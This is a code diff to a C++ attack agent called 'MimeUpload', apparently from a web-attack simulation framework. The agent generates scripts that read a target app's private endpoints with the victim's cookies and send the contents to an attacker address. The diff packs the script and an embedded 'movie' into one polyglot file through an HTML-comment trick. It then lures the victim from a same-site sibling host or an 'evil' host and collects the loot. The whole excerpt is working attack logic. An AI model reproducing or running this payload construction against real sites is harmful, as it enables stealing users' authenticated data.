@@ -19,29 +19,34 @@ class MimeUpload final : public Agent {
                              send_script(Channel::Image, address, kAllInReach);
         for (Endpoint const* each : private_endpoints(target))
             script += fetch_and_send(app_origin(target) + each->path, address);
-        auto const movies = upload(target, script);
+        std::string const movie = script;
         // A policy may leave no other way out than to another page.
         for (Endpoint const* each : private_endpoints(target))
             script += "fetch(" + script_string(app_origin(target) + each->path) +
                       ",{credentials:\"include\"}).then(r=>r.text()).then(t=>{" +
                       send_script(Channel::Navigation, address, "t") + "});";
-        auto const pages = upload(
-            target, "<!doctype html><title>A picture</title><script>" + script + "</script>");
-        if (pages.empty() || !victim_signs_in(target)) return;
-        for (std::string const& path : pages) {
+        auto const files = upload(target, page_and_movie(script, movie));
+        if (files.empty() || !victim_signs_in(target)) return;
+        for (std::string const& path : files) {
             if (!received_texts(target).empty()) break;
             target.victim()->opens(whole(target, path));
             target.victim()->turns_away();
         }
         // As a movie in a page of his own it would be a program of the app's host.
         std::string html;
-        for (std::string const& path : movies)
+        for (std::string const& path : files)
             html += "<embed type=\"" + std::string(kMovieType) +
                     "\" src=" + in_quotes(whole(target, path)) + ">";
-        for (OwnHost* host : {evil, sibling_host(target)})
-            if (host != nullptr) Lure(target, *host).show(html);
-        target.note(std::to_string(pages.size()) + " uploaded files were opened by a link.");
+        OwnHost* const sibling = sibling_host(target);  // of the same site: cookies come along
+        Lure(target, sibling != nullptr ? *sibling : *evil).show(html);
+        target.note(std::to_string(files.size()) + " uploaded files were opened by a link.");
         try_loot(target, received_texts(target));
+    }
+
+    // Both in one file: to a script, a line that begins with <!-- is a comment (ECMAScript B.1.1).
+    static std::string page_and_movie(std::string const& script, std::string const& movie) {
+        return "<!-- --><!doctype html><title>A picture</title><script>" + script +
+               "</script><!--\n" + movie + "\n//-->";
     }
 
     static std::string whole(Target const& target, std::string const& path) {
